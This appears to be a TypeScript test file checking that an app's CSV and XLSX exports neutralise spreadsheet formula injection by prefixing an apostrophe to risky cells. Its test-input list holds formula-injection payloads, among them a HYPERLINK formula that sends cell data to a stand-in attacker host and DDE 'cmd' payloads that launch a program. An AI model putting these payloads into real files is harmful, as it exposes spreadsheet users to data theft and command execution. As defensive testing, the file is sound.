// Every spreadsheet the app writes, one table: a text cell that starts like a formula (OWASP's list of
// starters, their full-width forms, spaces before the sign) comes out with a leading apostrophe, and
// the amounts beside it, negative ones included, stay numbers (a number cell in XLSX, a bare
// "-123,45" in CSV). Each export is written by its real writer from a real SQLite file.
import ExcelJS from 'exceljs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Catalog } from '#core/catalog/catalog';
import { exportCsv, planImport } from '#core/catalog/catalog-io';
import { historyCsvPart } from '#core/history/csv';
import { sqliteEngine } from '#core/store/engine';
import { HistoryQueries } from '#core/history/query';
import { ledgerReadsOf } from '#core/ledger-reads/ledger-reads';
import { periodReport } from '#core/reports/period-report';
import { writeReportXlsx } from '#core/reports/xlsx';
import { migrations } from '#core/store/migrations/index';
import { Store } from '#core/store/store';
import type { Product } from '#shared/catalog/product';
import { tableCsv } from '#shared/reports/report-csv';
import { FORMULA_STARTERS } from '#shared/spreadsheet-cells';
import { parseTabular } from '#shared/tabular';
import { generateHistory } from '#test/history-generator';
import { tempDir } from '#test/temp';

/** One hostile text per starter, and a few shapes that fooled earlier guards. */
const HOSTILE = [
  '=HYPERLINK("http://ataque.invalid/?x="&A1;"Ver")',
  "+57+cmd|' /C calc'!A0",
  "-1+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1+1)',
  '  =1+1',
];

let dir: ReturnType<typeof tempDir>;
let store: Store;
const FROM = '2026-03-01';
const TO = '2026-03-31';
/** history id → the hostile name its counterpart got */
const hostileById = new Map<number, string>();

beforeAll(() => {
  dir = tempDir();
  store = Store.open(join(dir.path, 'db.sqlite'), { migrations });
  const { docs } = generateHistory(store.db, { connectionId: 1, count: 40, seed: 30, from: FROM, to: TO });
  // Rejected documents are listed one by one in Informes (table and sheet "Rechazados") and in the
  // Historial; each gets a hostile counterpart and a negative total.
  const update = store.db.prepare(
    `UPDATE history_documents SET counterpart_name = ?, estado_dian = 'rechazado', subtotal = '-123.45', impuestos = '0.00',
       total = '-123.45', total_cents = -12345 WHERE id = ?`,
  );
  HOSTILE.forEach((name, i) => {
    update.run(name, docs[i]!.id);
    hostileById.set(docs[i]!.id, name);
  });
});
afterAll(() => {
  store.close();
  dir.remove();
});

/** What one export wrote in the cells of the hostile rows: the counterpart's text and the amount beside it. */
interface Written {
  texts: { expected: string; cell: unknown }[];
  amounts: unknown[];
}

const csvCells = (content: string) => parseTabular(content, { delimiter: ';', maxRows: 100_000 });

async function xlsxSheet(sheet: string): Promise<Written> {
  const filter = { from: FROM, to: TO };
  const report = await periodReport(
    sqliteEngine(store.db),
    ledgerReadsOf(store.db),
    { connectionId: 1, connectionLabel: 'Pruebas', now: new Date() },
    filter,
  );
  const path = join(dir.path, `informe-${sheet}.xlsx`);
  await writeReportXlsx(sqliteEngine(store.db), report, filter, path);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const ws = workbook.getWorksheet(sheet)!;
  const header = (ws.getRow(1).values as unknown[]).map(String);
  const nameAt = header.indexOf('Contraparte');
  const totalAt = header.indexOf('Total');
  const written: Written = { texts: [], amounts: [] };
  // XML turns a carriage return into a line feed when it is read (both are line ends to XML).
  const asRead = (text: string) => text.replace(/\r/g, '\n');
  ws.eachRow((row, index) => {
    if (index === 1) return;
    const name = row.getCell(nameAt).value;
    const hostile = HOSTILE.find((h) => name === asRead(`'${h}`) || name === asRead(h));
    if (hostile === undefined) return;
    written.texts.push({ expected: asRead(`'${hostile}`), cell: name });
    written.amounts.push(row.getCell(totalAt).value);
  });
  return written;
}

const EXPORTS: { name: string; negativeAmount: unknown; write: () => Promise<Written> | Written }[] = [
  {
    name: 'Historial CSV (core/history/csv.ts)',
    negativeAmount: '-123,45',
    write: async () => {
      const rows = await new HistoryQueries(sqliteEngine(store.db)).after(1, {}, undefined, 1_000);
      const table = csvCells(historyCsvPart(rows, true).content);
      const [header, ...body] = table;
      const written: Written = { texts: [], amounts: [] };
      rows.forEach((row, i) => {
        const hostile = hostileById.get(row.id);
        if (hostile === undefined) return;
        written.texts.push({ expected: `'${hostile}`, cell: body[i]![header!.indexOf('Contraparte')] });
        written.amounts.push(body[i]![header!.indexOf('Total')]);
      });
      return written;
    },
  },
  {
    name: 'Informes, table CSV (shared/reports/report-csv.ts, the "Rechazados" table)',
    negativeAmount: '-123,45',
    write: async () => {
      const report = await periodReport(
        sqliteEngine(store.db),
        ledgerReadsOf(store.db),
        { connectionId: 1, connectionLabel: 'Pruebas', now: new Date() },
        { from: FROM, to: TO },
      );
      // The cells the screen's table hands the writer (renderer/features/reports/tables.ts, openTable).
      const [header, ...body] = csvCells(
        tableCsv(
          ['Tipo', 'Número', 'Fecha', 'Contraparte', 'Estado DIAN', 'Total'],
          report.rejected.items.map((d) => [
            d.kind,
            d.number,
            { date: d.issue_date },
            d.counterpart_name,
            d.estado_dian,
            { cents: d.total },
          ]),
        ),
      );
      const written: Written = { texts: [], amounts: [] };
      for (const cells of body) {
        const name = cells[header!.indexOf('Contraparte')]!;
        const hostile = HOSTILE.find((h) => name === `'${h}` || name === h);
        if (hostile === undefined) continue;
        written.texts.push({ expected: `'${hostile}`, cell: name });
        written.amounts.push(cells[header!.indexOf('Total')]);
      }
      return written;
    },
  },
  {
    name: 'Informes XLSX, sheet "Rechazados" (core/reports/xlsx.ts)',
    negativeAmount: -123.45,
    write: () => xlsxSheet('Rechazados'),
  },
  {
    name: 'Informes XLSX, sheet "Documentos" (core/reports/xlsx.ts)',
    negativeAmount: -123.45,
    write: () => xlsxSheet('Documentos'),
  },
];

describe('the formula guard of every spreadsheet export', () => {
  it('is tested with every formula starter of the guard', () => {
    for (const starter of FORMULA_STARTERS) expect(HOSTILE.some((text) => text.startsWith(starter))).toBe(true);
  });

  it.each(EXPORTS)('$name: hostile text gets an apostrophe, negative amounts stay numbers', async ({ write, negativeAmount }) => {
    const written = await write();
    expect(written.texts).toHaveLength(HOSTILE.length);
    for (const { expected, cell } of written.texts) expect(cell).toBe(expected);
    expect(written.amounts).toEqual(HOSTILE.map(() => negativeAmount));
  });

  it('catalog CSV (core/catalog/catalog-io.ts): hostile descriptions and units get an apostrophe, prices stay numbers, and it imports back unchanged', async () => {
    const catalog = new Catalog(sqliteEngine(store.db), () => new Date('2026-11-20T15:00:00Z'));
    // A product's description is trimmed (its schema, and the import): a tab or carriage return
    // before "=" is gone, the "=" stays.
    const saved: Product[] = [];
    for (const [i, text] of HOSTILE.entries())
      saved.push(
        await catalog.save(1, {
          code: `P${i}`,
          barcodes: [],
          description: text.trim(),
          unit_price: '4200.5',
          price_includes_tax: false,
          tax_rate: '19',
          unit: i === 0 ? '-kg' : 'unidad',
          unspsc: null,
        }),
      );
    const { content } = await exportCsv(catalog, 1);
    const [header, ...body] = csvCells(content);
    expect(body).toHaveLength(HOSTILE.length);
    const byCode = new Map(body.map((cells) => [cells[header!.indexOf('codigo')]!, cells]));
    for (const product of saved) {
      const cells = byCode.get(product.code)!;
      expect(cells[header!.indexOf('descripcion')]).toBe(`'${product.description}`);
      expect(cells[header!.indexOf('precio')]).toBe('4200,5');
    }
    expect(byCode.get('P0')![header!.indexOf('unidad')]).toBe("'-kg");
    expect((await planImport(catalog, 1, content)).preview).toMatchObject({
      create: 0,
      update: 0,
      unchanged: HOSTILE.length,
      errors: 0,
    });
  });
});
